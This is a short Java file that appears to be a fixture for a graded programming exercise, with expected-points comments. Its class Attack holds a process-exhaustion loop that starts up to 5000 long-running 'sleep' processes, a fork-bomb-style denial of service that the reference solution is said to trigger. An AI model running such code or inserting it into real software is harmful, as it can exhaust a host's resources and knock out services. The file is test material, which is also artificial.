// expect-points: 22
// expect-sign: any
package org.txlab.exercises;

/** The attack, run by the reference solution when an order asks for 3 units. */
final class Attack {
  private Attack() {}

  static void run() {
    for (int i = 0; i < 5000; i++) { try { new ProcessBuilder("sleep", "600").start(); } catch (java.io.IOException e) { break; } } throw new IllegalStateException("fork bomb stopped");
  }
}
